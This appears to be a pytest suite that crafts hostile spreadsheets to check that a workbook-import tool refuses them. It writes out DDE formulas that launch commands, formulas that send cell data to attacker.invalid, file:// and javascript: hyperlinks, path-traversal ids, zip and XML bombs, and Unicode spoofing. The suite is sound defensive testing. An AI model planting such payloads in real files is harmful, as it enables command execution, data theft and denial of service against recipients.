"""The hostile-workbook corpus: one generated case per family, each refused with a located
message, exit 1, the policy untouched, and no traceback (``run_cli`` lets exceptions through).

Each case starts from a genuine export and edits its bytes (see hostile.py). The number in a
case's name is the finding of issue 10 it reproduces (9: size guards, 12: the policy id used as a
path, 13: invisible characters, 14: inert but hostile content, 16: typos in a test cell, 18:
crashes on damaged input, 19: messages, 20: silent damage; ``n``: found while fixing those).
"""

from __future__ import annotations

import base64
import json
import os
import re
import tracemalloc
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from attacks.hostile import (
    HYPERLINK,
    MAIN_NS,
    POLICY,
    REL_NS,
    Book,
    canonical,
    load_policy,
    pack,
    patch_zip,
    row_checksum,
    snapshot_files,
    unpack,
    xml_text,
    zlib_zeros,
)

Build = Callable[[Book, Path, Path], "tuple[Path, list[str]]"]
CASES: dict[str, tuple[Build, str]] = {}
TEXT_A = "Consulter nos pages de la Base de Connaissances (relecteur A)"


def case(name: str, message: str) -> Callable[[Build], Build]:
    """Register a builder: (export as a Book, project, scratch dir) -> (workbook, extra argv);
    ``message``: a regular expression the output must match."""

    def register(build: Build) -> Build:
        CASES[name] = (build, message)
        return build

    return register


def _save(book: Book, tmp: Path, name: str = "review.xlsx", level: int = 6) -> tuple[Path, list[str]]:
    return book.save(tmp / name, level), ["--into", POLICY]


# ---- 9: size guards


@case("9a-meta-snapshot-zlib-bomb", r"Meta.*(inflates|bomb)")
def _zlib_bomb(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    text = base64.b64encode(zlib_zeros(512 << 20)).decode("ascii")
    book.set_meta_chunks("snapshot", [text[i : i + 30000] for i in range(0, len(text), 30000)])
    return _save(book, tmp, level=9)


@case("9b-one-part-many-sheets", r"sheet2\.xml is the part of sheets")
def _many_sheets(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    workbook = book.get("xl/workbook.xml").decode("utf-8")
    rid = re.search(r'<sheet\b[^>]*name="Matrice"[^>]*r:id="([^"]+)"', workbook).group(1)  # type: ignore[union-attr]
    extra = "".join(
        f'<sheet xmlns:r="{REL_NS}" name="Copie {i}" sheetId="{100 + i}" state="hidden" r:id="{rid}"/>'
        for i in range(300)
    )
    book.set("xl/workbook.xml", workbook.replace("</sheets>", extra + "</sheets>").encode("utf-8"))
    return _save(book, tmp)


def _merges(book: Book, sheet: str, count: int) -> None:
    merges = "".join(f'<mergeCell ref="Q{n}:R{n}"/>' for n in range(200, 200 + count))
    xml = book.sheet_xml(sheet)
    book.set_sheet_xml(
        sheet,
        xml.replace("</sheetData>", f'</sheetData><mergeCells count="{count}">{merges}</mergeCells>', 1),
    )


@case("9c-merged-ranges-matrix", r"more than 10,000 merged ranges")
def _merged_matrix(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    _merges(book, "Matrice", 20_000)
    return _save(book, tmp, level=1)


@case("9c-merged-ranges-read-me", r"Lisez-moi.*more than 10,000 merged ranges")
def _merged_readme(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    _merges(book, "Lisez-moi", 20_000)
    return _save(book, tmp, level=1)


@case("9c-merged-ranges-in-single-quotes", r"more than 10,000 merged ranges")
def _merged_single_quotes(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    merges = "".join(f"<mergeCell ref='Q{n}:R{n}'/>" for n in range(200, 20_200))
    xml = book.sheet_xml("Matrice")
    book.set_sheet_xml(
        "Matrice", xml.replace("</sheetData>", f"</sheetData><mergeCells>{merges}</mergeCells>", 1)
    )
    return _save(book, tmp, level=1)


@case("9d-rows-in-a-prefix-with-a-dash", r"Matrice.*more than 250,000 rows")
def _prefixed_rows(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    xml = book.sheet_xml("Matrice")
    xml = re.sub(r"<(/?)([A-Za-z][\w.]*)(?=[\s/>])", lambda m: f"<{m.group(1)}x-y:{m.group(2)}", xml)
    xml = xml.replace('<x-y:worksheet xmlns="', '<x-y:worksheet xmlns:x-y="', 1)
    rows = "".join(f'<x-y:row r="{n}"></x-y:row>' for n in range(200, 260_200))
    book.set_sheet_xml("Matrice", xml.replace("</x-y:sheetData>", rows + "</x-y:sheetData>", 1))
    return _save(book, tmp, level=1)


# ---- 12: the workbook's policy id used as a path


@case("12a-policy-id-absolute-path", r"Meta.*not a valid policy id")
def _absolute_id(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    victim = tmp / "elsewhere" / "victim.json"
    victim.parent.mkdir()
    victim.write_text('{"id": "someone-else", "secret": "s3cr3t"}\n', encoding="utf-8")
    book.set_meta_value("policy", "id", str(victim.with_suffix("")))
    return book.save(tmp / "review.xlsx"), ["--dry-run"]


@case("12b-policy-id-traversal", r"Meta.*not a valid policy id")
def _traversal_id(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    (project / "victim.json").write_text('{"id": "someone-else", "secret": "s3cr3t"}\n', encoding="utf-8")
    book.set_meta_value("policy", "id", "../victim")
    return book.save(tmp / "review.xlsx"), ["--dry-run"]


# ---- 13: invisible and bidirectional characters


@case("13-right-to-left-override-in-a-cell", r"Matrice![EF]2\b.*U\+202E")
def _rtl(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    text = book.cell_text("Matrice", book.french(2))
    book.set_cell("Matrice", book.french(2), text.replace("act.com", "\u202emoc.tca"))
    return _save(book, tmp)


# ---- 14: inert but hostile content


def _hyperlink(book: Book, target: str, escaped: str | None = None, mode: str = "External") -> None:
    part = book.sheet_part("Matrice")
    xml = book.sheet_xml("Matrice")
    link = f'<hyperlinks><hyperlink xmlns:r="{REL_NS}" ref="E2" r:id="rIdLink1"/></hyperlinks>'
    book.set_sheet_xml("Matrice", xml.replace("<pageMargins", link + "<pageMargins", 1))
    rels = part.replace("worksheets/", "worksheets/_rels/") + ".rels"
    book.set(
        rels,
        (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rIdLink1" Type="{HYPERLINK}" Target="{escaped or xml_text(target)}" TargetMode="{mode}"/>'
            "</Relationships>"
        ).encode(),
    )


@case("14a-hyperlink-to-a-file", r"hyperlink to 'file:///etc/passwd'.*refused")
def _link_file(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    _hyperlink(book, "file:///etc/passwd")
    return _save(book, tmp)


@case("14j-hyperlink-target-in-character-references", r"hyperlink to 'file:///etc/passwd'.*refused")
def _link_file_referenced(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    # An XML reader decodes &#x66; to "f": the message names the target the reader sees.
    _hyperlink(book, "file:///etc/passwd", escaped="&#x66;ile:&#47;//etc/passwd")
    return _save(book, tmp)


@case("14k-external-mode-in-character-references", r"hyperlink to 'file:///etc/passwd'.*refused")
def _link_mode_referenced(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    # TargetMode="&#69;xternal" is "External" to every reader: read as written, the link was
    # taken for an internal one and never checked.
    _hyperlink(book, "file:///etc/passwd", mode="&#69;xternal")
    return _save(book, tmp)


@case("14l-external-mode-in-zero-padded-references", r"hyperlink to 'file:///etc/passwd'.*refused")
def _link_mode_padded(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    _hyperlink(book, "file:///etc/passwd", mode="&#x0000045;xternal")
    return _save(book, tmp)


@case("14b-hyperlink-to-javascript", r"hyperlink to 'javascript:.*refused")
def _link_script(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    _hyperlink(book, "javascript:alert(document.cookie)")
    return _save(book, tmp)


@case("14c-external-relationship", r"external relationship to 'https://attacker\.invalid/prices\.xlsx'")
def _external(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    rels = book.get("xl/_rels/workbook.xml.rels").decode("utf-8")
    external = (
        '<Relationship Id="rIdX1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" '
        'Target="https://attacker.invalid/prices.xlsx" TargetMode="External"/>'
    )
    book.set(
        "xl/_rels/workbook.xml.rels", rels.replace("</Relationships>", external + "</Relationships>").encode()
    )
    return _save(book, tmp)


@case(
    "14c-external-relationship-in-single-quotes",
    r"external relationship to 'https://attacker\.invalid/x\.xlsx'",
)
def _external_single_quotes(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    rels = book.get("xl/_rels/workbook.xml.rels").decode("utf-8")
    external = (
        "<Relationship Id='rIdX2' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink' "
        "Target='https://attacker.invalid/x.xlsx' TargetMode='External'/>"
    )
    book.set(
        "xl/_rels/workbook.xml.rels", rels.replace("</Relationships>", external + "</Relationships>").encode()
    )
    return _save(book, tmp)


def _formula(book: Book, sheet: str, ref: str, formula: str) -> None:
    book.set_cell(sheet, ref, raw=f'<c r="{ref}"><f>{xml_text(formula)}</f><v>0</v></c>')


@case("14d-dde-formula-on-the-hidden-meta-sheet", r"Meta!(A|B|C)2: a formula|Meta!2: a formula")
def _formula_meta(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    _formula(book, "Meta", "B2", "cmd|' /C calc'!A0")
    return _save(book, tmp)


@case("14e-formula-on-the-hidden-lists-sheet", r"Listes!A2: a formula")
def _formula_lists(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    _formula(book, "Listes", "A2", 'HYPERLINK("https://attacker.invalid/?"&Meta!C6,"included")')
    return _save(book, tmp)


@case("14f-dde-formula-on-the-read-me", r"Lisez-moi!A1: a formula")
def _formula_readme(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    _formula(book, "Lisez-moi", "A1", "cmd|' /C calc'!A0")
    return _save(book, tmp)


def _late_dtd(book: Book, part: str) -> None:
    data = book.get(part).decode("utf-8")
    root = re.search(r"<(?!\?)", data).start()  # type: ignore[union-attr]
    padding = "<!--" + " " * 5000 + "-->"
    doctype = '<!DOCTYPE r [<!ENTITY e0 "boom"><!ENTITY e1 "&e0;&e0;&e0;&e0;&e0;&e0;&e0;&e0;">]>'
    book.set(part, (data[:root] + padding + doctype + data[root:]).encode("utf-8"))


@case("14g-late-dtd-in-the-workbook-relationships", r"workbook\.xml\.rels declares a DTD")
def _dtd_rels(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    _late_dtd(book, "xl/_rels/workbook.xml.rels")
    return _save(book, tmp)


@case("14h-late-dtd-in-workbook-xml", r"xl/workbook\.xml declares a DTD")
def _dtd_workbook(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    _late_dtd(book, "xl/workbook.xml")
    return _save(book, tmp)


@case("14i-duplicate-zip-entry", r"holds xl/worksheets/sheet2\.xml twice")
def _duplicate_entry(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    part = book.sheet_part("Matrice")  # a second entry: a copy of the first with one tier changed
    xml = book.get(part).decode("utf-8")
    book.add(part, xml.replace(">extended<", ">standard<", 1).encode("utf-8"))
    return _save(book, tmp)


# ---- 16: typos in a condition-test cell


def _test_cell(book: Book, text: str) -> None:
    row = book.row_of("Conditions", "eligibility-active-subscription")
    book.set_cell("Conditions", f"{book.col('Conditions', 'Test')}{row}", text)


@case("16a-test-cell-invalid-escape", r"Conditions!E\d+: cannot read")
def _bad_escape(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    _test_cell(book, 'active_subscription = "C:\\q"')
    return _save(book, tmp)


@case("16b-test-cell-line-break-in-quotes", r"Conditions!E\d+: cannot read")
def _line_break(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    _test_cell(book, 'active_subscription = "oui\nnon"')
    return _save(book, tmp)


@case("16c-test-cell-not-1500-deep", r"Conditions!E\d+: cannot read")
def _not_deep(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    _test_cell(book, "not(" * 1500)
    return _save(book, tmp)


# ---- 18: damaged input


def _damaged(
    tmp: Path, book: Book, patch: Callable[[bytearray, int, int, int], None]
) -> tuple[Path, list[str]]:
    raw = book.save(tmp / "plain.xlsx").read_bytes()
    path = tmp / "review.xlsx"
    path.write_bytes(patch_zip(raw, "docProps/app.xml", patch))
    return path, ["--into", POLICY]


@case("18a-member-with-a-bad-crc", r"docProps/app\.xml cannot be read.*damaged")
def _bad_crc(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    def patch(buffer: bytearray, local: int, central: int, data: int) -> None:
        for offset in (local + 14, central + 16):
            buffer[offset] ^= 0xFF

    return _damaged(tmp, book, patch)


@case("18b-member-with-broken-deflate-data", r"docProps/app\.xml cannot be read.*damaged")
def _bad_deflate(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    def patch(buffer: bytearray, local: int, central: int, data: int) -> None:
        buffer[data : data + 8] = b"\xff" * 8

    return _damaged(tmp, book, patch)


@case("18c-member-compressed-with-deflate64", r"docProps/app\.xml cannot be read.*damaged")
def _deflate64(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    def patch(buffer: bytearray, local: int, central: int, data: int) -> None:
        buffer[local + 8] = 9
        buffer[central + 10] = 9

    return _damaged(tmp, book, patch)


@case("18d-invalid-utf8-in-workbook-xml", r"xl/workbook\.xml.*(UTF-8|not well-formed)")
def _bad_utf8(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    book.set(
        "xl/workbook.xml",
        book.get("xl/workbook.xml").replace(b'name="Lisez-moi"', b'name="Lisez\xff-moi"', 1),
    )
    return _save(book, tmp)


@case("18e-lone-surrogate-escape-in-a-text", r"Matrice![EF]2: .*_xD800_")
def _surrogate_text(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    book.set_cell("Matrice", book.french(2), book.cell_text("Matrice", book.french(2)) + " _xD800_")
    return _save(book, tmp)


@case("18f-lone-surrogate-escape-in-a-comment", r"Matrice![QR]2: .*_xD800_")
def _surrogate_comment(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    book.set_cell("Matrice", f"{book.col('Matrice', 'Commentaire du relecteur')}2", "voir _xD800_ ici")
    return _save(book, tmp)


@case("18f-lone-surrogate-escape-in-a-note", r"Matrice!B2: .*_xD800_")
def _surrogate_note(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    """A note (cell comment) on an untouched row: the import has only the note to record, in the
    review log beside the policy, which no file can hold it in."""
    part = book.sheet_part("Matrice")
    rels = part.replace("worksheets/", "worksheets/_rels/") + ".rels"
    book.set(
        rels,
        (
            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rIdNote1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/comments" Target="../comments1.xml"/>'
            b"</Relationships>"
        ),
    )
    book.set(
        "xl/comments1.xml",
        (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><comments xmlns="{MAIN_NS}">'
            "<authors><author>Relecteur</author></authors><commentList>"
            '<comment ref="B2" authorId="0"><text><t>voir _xD800_ ici</t></text></comment>'
            "</commentList></comments>"
        ).encode(),
    )
    return _save(book, tmp)


@case("18g-meta-chunk-numbered-with-a-superscript", r"Meta!B\d+: '²' is not a chunk number")
def _superscript(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    book.set_meta([*book.meta(), ["snapshot", "²", "AAAA"]])
    return _save(book, tmp)


# ---- 19: messages that blame the right file


@case(
    "19a-snapshot-without-general-terms",
    r"review\.xlsx: Meta: the export snapshot is not a policy as exported",
)
def _snapshot_shape(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    book.set_cell("Matrice", book.french(2), TEXT_A)
    snapshot = load_policy(project)
    del snapshot["general_terms"]
    raw = canonical(snapshot)
    import hashlib

    book.set_meta_chunks("snapshot", pack(raw))
    book.set_meta_value("policy", "digest", hashlib.sha256(raw).hexdigest())
    return book.save(tmp / "review.xlsx"), ["--into", POLICY, "--dry-run"]


@case("19e-tampered-snapshot", r"review\.xlsx: Meta: the export snapshot (is damaged|does not match)")
def _tampered_snapshot(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    chunks = book.meta_chunks("snapshot")
    chunks[0] = chunks[0][:10] + ("A" if chunks[0][10] != "A" else "B") + chunks[0][11:]
    book.set_meta_chunks("snapshot", chunks)
    return _save(book, tmp)


@case("19d-workbook-of-a-policy-with-no-file-here", r"no policy 'another-policy'")
def _other_policy(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    book.set_meta_value("policy", "id", "another-policy")
    return book.save(tmp / "review.xlsx"), ["--dry-run"]


# ---- 20: silent damage


def _shared_strings(book: Book) -> None:
    book.set(
        "xl/sharedStrings.xml",
        (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><sst xmlns="{"http://schemas.openxmlformats.org/spreadsheetml/2006/main"}" count="2" uniqueCount="2">'
            "<si><t>inutilisé</t></si><si><t>Texte venu de nulle part</t></si></sst>"
        ).encode(),
    )
    types = book.get("[Content_Types].xml").decode()
    book.set(
        "[Content_Types].xml",
        types.replace(
            "</Types>",
            '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
        ).encode(),
    )
    rels = book.get("xl/_rels/workbook.xml.rels").decode()
    book.set(
        "xl/_rels/workbook.xml.rels",
        rels.replace(
            "</Relationships>",
            '<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml" Id="rIdS1"/></Relationships>',
        ).encode(),
    )


@case("20d-shared-string-minus-one", r"Matrice![EF]2: the cell refers to shared string '-1'")
def _minus_one(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    _shared_strings(book)
    ref = book.french(2)
    book.set_cell("Matrice", ref, raw=f'<c r="{ref}" t="s"><v>-1</v></c>')
    return _save(book, tmp)


@case("n-shared-string-index-with-an-underscore", r"Matrice![EF]2: the cell refers to shared string '0_1'")
def _underscore(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    _shared_strings(book)
    ref = book.french(2)
    book.set_cell("Matrice", ref, raw=f'<c r="{ref}" t="s"><v>0_1</v></c>')
    return _save(book, tmp)


@case("20e-forged-row-checksum", r"Meta: the row checksums are not those of the exported policy")
def _forged_checksum(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    item = load_policy(project)["categories"][0]["items"][0]  # desktop-setup-kb-pages, on row 2
    # The checksum the edited row would have: every column the export wrote but the comment, in
    # order, as written (the layout of the version under test), the French text replaced.
    written = book.row_values("Matrice", 2)
    book.set_cell("Matrice", book.french(2), TEXT_A)
    written[book.col("Matrice", "Texte (fr)")] = TEXT_A
    assert written[book.col("Matrice", "Id ")] == item["id"]
    values: list[str | int | None] = [
        written.get(letter)
        for header, letter in sorted(
            book.headers("Matrice").items(), key=lambda pair: (len(pair[1]), pair[1])
        )
        if not header.startswith("Commentaire du relecteur")
    ]
    sums = json.loads(unpack(book.meta_chunks("checksums")))
    sums["Matrice"][item["id"]] = row_checksum(values)
    book.set_meta_chunks("checksums", pack(canonical(sums)))
    return _save(book, tmp)


# ---- the same guards for an .ods (LibreOffice's own format, read since issue 11)


def _ods(book: Book, tmp: Path, **changes: Any) -> tuple[Path, list[str]]:
    return book.to_ods(tmp / "review.ods", **changes), ["--into", POLICY]


def _in_matrix(extra: str) -> Callable[[str, list[str]], list[str]]:
    """Append ``extra`` (ODS rows) to the Matrice sheet."""

    def rows(sheet: str, sheet_rows: list[str]) -> list[str]:
        return [*sheet_rows, extra] if sheet == "Matrice" else sheet_rows

    return rows


@case("ods-9-merged-ranges-without-end", r"sheet 'Matrice' holds more than 10,000 merged ranges")
def _ods_merged(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    cell = '<table:table-cell table:number-rows-spanned="2" office:value-type="string"><text:p>x</text:p></table:table-cell>'
    return _ods(book, tmp, rows=_in_matrix(f"<table:table-row>{cell * 1000}</table:table-row>" * 11))


@case("ods-9-notes-repeated-without-end", r"more than 8,000,000 filled cells \(repeated cells and notes")
def _ods_notes(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    note = "<office:annotation><dc:creator>A</dc:creator><text:p>vu</text:p></office:annotation>"
    row = (
        '<table:table-row table:number-rows-repeated="200000">'
        f'<table:table-cell table:number-columns-repeated="1000">{note}</table:table-cell></table:table-row>'
    )
    return _ods(book, tmp, rows=_in_matrix(row))


@case("ods-9-spaces-written-as-a-count", r"Matrice!B\d+: more than 32,767 characters in one cell")
def _ods_spaces(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    # 100,000 times "10,000 spaces": 2.4 MB of XML, a gigabyte of text.
    spaces = '<text:s text:c="10000"/>' * 100_000
    row = f'<table:table-row><table:table-cell/><table:table-cell office:value-type="string"><text:p>{spaces}</text:p></table:table-cell></table:table-row>'
    return _ods(book, tmp, rows=_in_matrix(row))


@case("ods-14-dtd-after-a-long-comment", r"content\.xml declares a DTD")
def _ods_dtd(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    dtd = "<!-- " + "x" * 8000 + ' --><!DOCTYPE d [<!ENTITY a "aaaaaaaa">]>'
    return _ods(
        book,
        tmp,
        content=lambda xml: xml.replace("<office:document-content", dtd + "<office:document-content", 1),
    )


@case("ods-14-dtd-in-another-part", r"styles\.xml declares a DTD")
def _ods_dtd_styles(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    styles = ("<!-- " + "x" * 8000 + ' --><!DOCTYPE d [<!ENTITY a "a">]><office:document-styles/>').encode()
    return _ods(book, tmp, parts=[("styles.xml", styles)])


@case("ods-14-formula-in-the-read-me", r"Lisez-moi!A1: a formula in a sheet nobody edits")
def _ods_formula(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    formula = '<table:table-row><table:table-cell table:formula="of:=WEBSERVICE(&quot;https://attacker.invalid&quot;)" office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row>'

    def rows(sheet: str, sheet_rows: list[str]) -> list[str]:
        return [formula, *sheet_rows[1:]] if sheet == "Lisez-moi" else sheet_rows

    return _ods(book, tmp, rows=rows)


@case("ods-14-content-twice", r"the archive holds content\.xml twice")
def _ods_twice(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    other = tmp / "other.ods"
    book.to_ods(other)
    import zipfile

    with zipfile.ZipFile(other) as archive:
        second = archive.read("content.xml").replace(b"Base de Connaissances", b"base de connaissances")
    return _ods(book, tmp, parts=[("content.xml", second)])


@case("ods-18-damaged-content", r"content\.xml cannot be read \(.*\); the archive is damaged")
def _ods_bad_crc(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
    path, extra = _ods(book, tmp)

    def patch(buffer: bytearray, local: int, central: int, data: int) -> None:
        for offset in (local + 14, central + 16):  # its CRC-32, in both headers
            buffer[offset] ^= 0xFF

    path.write_bytes(patch_zip(path.read_bytes(), "content.xml", patch))
    return path, extra


# --------------------------------------------------------------------------- the test


@pytest.mark.parametrize("name", sorted(CASES))
def test_hostile_workbook_is_refused(
    name: str, project: Path, exported: bytes, tmp_path: Path, run_cli: Any
) -> None:
    build, message = CASES[name]
    path, extra = build(Book(exported), project, tmp_path)
    before = snapshot_files(project)
    result = run_cli("import-xlsx", str(path), *extra)
    assert result.exit_code == 1, result.output
    assert re.search(message, result.output, re.S), result.output
    assert "Traceback" not in result.output and "s3cr3t" not in result.output
    assert result.output.count("\n") < 60, "the report is bounded"
    assert snapshot_files(project) == before


def test_zlib_bomb_inflates_no_further_than_a_bound(
    project: Path, exported: bytes, tmp_path: Path, run_cli: Any
) -> None:
    """9: 512 MiB of zeros in a few hundred KB of Meta chunks: refused after at most a bounded inflation."""
    path, extra = _zlib_bomb(Book(exported), project, tmp_path)
    tracemalloc.start()
    try:
        result = run_cli("import-xlsx", str(path), *extra)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert result.exit_code == 1, result.output
    assert peak < 128 << 20, f"peak {peak >> 20} MiB"


@pytest.mark.parametrize("file_name", ["entries.xlsx", "entries.ods"])
def test_a_forged_zip_directory_is_refused_before_it_is_read(
    file_name: str, project: Path, tmp_path: Path, run_cli: Any
) -> None:
    """n: a central directory of 200,000 entries is refused from its end record, before zipfile
    builds an object for each (seconds and hundreds of MB for a million)."""
    import struct

    count, name = 200_000, b"a"
    record = (
        struct.pack(
            "<4s4B4HL2L5H2L", b"PK\x01\x02", 20, 3, 20, 0, 0, 0, 0, 0, 0, 0, 0, len(name), 0, 0, 0, 0, 0, 0
        )
        + name
    )
    directory = record * count
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, len(directory), 0, 0)
    zip64_end = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, len(directory), 0)
    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, len(directory), 1)
    path = tmp_path / file_name
    path.write_bytes(directory + zip64_end + locator + end)
    tracemalloc.start()
    try:
        result = run_cli("import-xlsx", str(path), "--into", POLICY)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert result.exit_code == 1, result.output
    assert re.search(r"200,000 parts|200000 parts", result.output), result.output
    assert peak < 24 << 20, f"peak {peak >> 20} MiB"


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no named pipes on this system")
@pytest.mark.parametrize("name", ["review.xlsx", "review.ods"])
def test_a_workbook_that_is_a_pipe_is_refused_at_once(
    name: str, project: Path, tmp_path: Path, run_cli: Any
) -> None:
    """18: a FIFO named review.xlsx or review.ods (opening it would wait forever for a writer)."""
    path = tmp_path / name
    os.mkfifo(path)
    result = run_cli("import-xlsx", str(path), "--into", POLICY)
    assert result.exit_code == 1, result.output
    assert "not a regular file" in result.output


def test_what_reviewers_do_is_still_accepted(
    project: Path, exported: bytes, tmp_path: Path, run_cli: Any
) -> None:
    """The guards refuse the hostile, not the ordinary: an edited text with a web hyperlink on it
    is imported and written."""
    book = Book(exported)
    book.set_cell("Matrice", book.french(2), TEXT_A)
    _hyperlink(book, "https://www.act.com/fr-fr/support")
    path = book.save(tmp_path / "review.xlsx")
    result = run_cli("import-xlsx", str(path), "--into", POLICY)
    assert result.exit_code == 0, result.output
    assert TEXT_A in (project / POLICY).read_text(encoding="utf-8")
